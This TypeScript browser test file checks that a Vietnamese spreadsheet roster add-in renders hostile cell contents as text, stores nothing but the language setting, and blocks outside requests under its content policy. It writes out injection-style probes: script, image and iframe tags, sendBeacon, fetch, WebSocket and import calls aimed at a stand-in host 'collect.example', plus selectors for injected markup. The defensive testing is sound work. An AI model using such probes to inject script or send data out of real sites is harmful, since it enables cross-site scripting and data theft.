import { strict as assert } from 'node:assert';
import { messagesFor } from '../../src/messages/messagesFor';
import { writeXlsx } from '../../src/workbook/xlsx/writeXlsx';
import { evilRoster, evilTexts } from '../support/evilRoster';
import type { PageScenario } from './closedNetworkScenarios';
import type { Scenario } from './scenarios';
import { findLayoutProblems } from './support/findLayoutProblems';
import { narrowPane } from './support/narrowPane';
import { arriveAt, generate, open, see } from './support/officerSteps';
import type { OpenWorkbench } from './support/openWorkbench';

const { pane: words, workbench, plan, indicatorScreen } = messagesFor('vi');
const [image = ''] = evilTexts;

/** What stands in cells is shown and copied as text, and nothing is kept but the language. */
export const securityScenarios: readonly (Scenario | PageScenario)[] = [
  {
    name: 'names that are tags, formulas or fields are shown as text on every screen, and break no line',
    run: async (bench) => {
      const { page, pane } = bench;
      await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
      await openEvil(bench);
      const found: string[] = [];
      const look = async (place: string) => {
        for (const width of [320, 400]) {
          await narrowPane(bench, width);
          for (const each of await findLayoutProblems(pane)) found.push(`${place}: ${each}`);
        }
        found.push(...(await findForeign(bench)).map((each) => `${place}: ${each}`));
      };
      for (const screen of ['report', 'indicators', 'data', 'settings', 'plan'] as const) {
        await arriveAt(bench, words.screens[screen]);
        await look(screen);
      }
      const person = pane.getByRole('combobox', { name: plan.person });
      await person.click();
      await person.pressSequentially('img');
      await see(pane.getByRole('option', { name: image }));
      await look('plan, searching');
      await pane.getByRole('option', { name: image }).click();
      await pane.getByLabel(plan.kind).selectOption('leave');
      await pane.getByRole('button', { name: plan.add }).click();
      await see(pane.getByRole('list', { name: plan.changes }).getByText(image));
      await look('plan, changed');
      await open(bench, words.screens.report);
      await pane.getByRole('button', { name: /Cán bộ trẻ dưới 40 tuổi tham gia/ }).click();
      await see(
        pane
          .getByRole('main')
          .getByText(evilTexts[1] ?? '')
          .first(),
      );
      for (const unit of await pane.getByRole('button', { name: /^Xem đơn vị/ }).all()) {
        await unit.click();
      }
      for (const list of ['certain', 'denominatorOnly'] as const) {
        const name = new RegExp(indicatorScreen.lists[list]);
        await pane.getByRole('button', { name }).click();
      }
      await see(pane.getByRole('main').getByText(image).first());
      await look('indicator');
      await pane.getByRole('button', { name: indicatorScreen.copy }).click();
      await see(pane.getByRole('main').getByText(indicatorScreen.copied));
      const copied = await page.evaluate(() => navigator.clipboard.readText());
      assert.match(copied, /^Toàn tỉnh có 8 cán bộ trẻ/);
      await open(bench, words.screens.report);
      await generate(bench);
      await look('written');
      for (const tab of await page.getByRole('tab').all()) await tab.click();
      found.push(...(await findForeign(bench)));
      assert.deepEqual(found, []);
    },
  },
  {
    name: 'after everything that can be chosen the browser keeps the language and nothing else',
    run: async (bench) => {
      const { page, pane } = bench;
      await generate(bench);
      await open(bench, words.screens.settings);
      await pane.getByRole('radio', { name: 'English' }).check();
      const en = messagesFor('en');
      await open(bench, en.pane.screens.plan);
      await open(bench, en.pane.screens.data);
      await open(bench, en.pane.screens.report);
      const kept = await page.evaluate(async () => ({
        local: Object.fromEntries(Object.entries(localStorage)),
        session: Object.keys(sessionStorage),
        databases: await indexedDB.databases(),
        caches: await caches.keys(),
        cookies: document.cookie,
      }));
      assert.deepEqual(kept, {
        local: { 'rollcall.language': 'en' },
        session: [],
        databases: [],
        caches: [],
        cookies: '',
      });
      assert.deepEqual(await page.context().cookies(), []);
    },
  },
  {
    name: 'every page that is built has a policy under which nothing of elsewhere runs or is asked',
    visit: async (context, origin) => {
      for (const path of ['taskpane.html', 'frame.html', 'help.html', 'index.html']) {
        const page = await context.newPage();
        // The tool that runs this file marks named functions by a call that a page does not know.
        await page.addInitScript('globalThis.__name = (named) => named');
        // The pane would go on to the page of help: what counts here are the pages.
        await page.route(/\/(taskpane|workbench|playOffice|joinBridge)\.js$/, (route) =>
          route.abort(),
        );
        const refused: string[] = [];
        page.on('console', (message) => refused.push(message.text()));
        const asked: string[] = [];
        await context.route(
          (url) => url.origin !== origin,
          (route) => {
            asked.push(route.request().url());
            return route.abort();
          },
        );
        await page.goto(`${origin}/${path}`);
        const outcomes = await page.evaluate(async () => {
          const elsewhere = 'https://collect.example/';
          const marks: string[] = [];
          const add = (tag: string, set: Record<string, string>) => {
            const element = document.createElement(tag);
            document.body.append(Object.assign(element, set));
          };
          add('img', { src: `${elsewhere}a.png` });
          add('script', { src: `${elsewhere}a.js` });
          add('script', { textContent: 'document.title = "ran"' });
          add('link', { rel: 'stylesheet', href: `${elsewhere}a.css` });
          add('iframe', { src: `${elsewhere}frame` });
          add('style', { textContent: `body { background: url(${elsewhere}b.png) }` });
          navigator.sendBeacon(`${elsewhere}beacon`, 'x');
          const source = new EventSource(`${elsewhere}events`);
          source.onopen = () => marks.push('events');
          await fetch(`${elsewhere}fetch`).then(
            () => marks.push('fetch'),
            () => undefined,
          );
          await import(`${elsewhere}module.js`).then(
            () => marks.push('module'),
            () => undefined,
          );
          try {
            new WebSocket('wss://collect.example/');
          } catch {
            // Refused at once.
          }
          try {
            Reflect.construct(Function, ['return 1']);
            marks.push('a function made of text');
          } catch {
            // Refused.
          }
          await new Promise((resolve) => setTimeout(resolve, 200));
          return [...marks, ...(document.title === 'ran' ? ['inline script'] : [])];
        });
        assert.deepEqual([path, outcomes, asked], [path, [], []]);
        assert.ok(refused.length > 5, `${path} refused only ${refused.join('\n')}`);
        await page.close();
        await context.unrouteAll();
      }
    },
  },
];

async function openEvil({ page, pane }: OpenWorkbench): Promise<void> {
  await page.getByLabel(workbench.open).setInputFiles({
    name: 'evil.xlsx',
    mimeType: 'application/octet-stream',
    buffer: Buffer.from(await writeXlsx(evilRoster())),
  });
  await see(page.getByRole('region', { name: 'evil.xlsx' }));
  await see(pane.getByRole('main').getByText(/^1 trang tính, 23 người/));
}

/** What only markup in a cell could have made, in the pane or on the page around it. */
async function findForeign({ page }: OpenWorkbench): Promise<string[]> {
  return page.evaluate(() => {
    const inner = document.querySelector('iframe')?.contentDocument;
    const pages = inner ? [document, inner] : [document];
    const found = pages.flatMap((each) => [
      ...each.querySelectorAll(
        'img[src=x], body script:not([src]), [onerror], a[href*="evil"], body b',
      ),
    ]);
    const marks = found.map((element) => element.outerHTML.slice(0, 80));
    return 'evil' in window ? [...marks, 'something ran'] : marks;
  });
}
